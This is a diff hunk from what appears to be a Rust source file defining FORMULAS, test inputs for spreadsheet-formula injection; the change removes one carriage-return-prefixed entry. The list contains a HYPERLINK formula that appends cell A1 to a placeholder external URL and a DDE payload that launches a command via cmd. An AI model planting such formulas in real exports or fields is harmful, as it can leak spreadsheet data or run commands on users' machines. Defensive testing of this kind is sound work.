@@ -21,13 +21,12 @@ impl Errand for Rename {
 }
 
 /// How a formula begins, as a person could write it in a reason or a name.
-const FORMULAS: [&str; 11] = [
+const FORMULAS: [&str; 10] = [
     "=HYPERLINK(\"https://altrove.example.org/?\"&A1;\"Apri\")",
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A9)",
     "\t=1+1",
-    "\r=1+1",
     "\n=1+1",
     "＝1+1",
     "＋1+1",
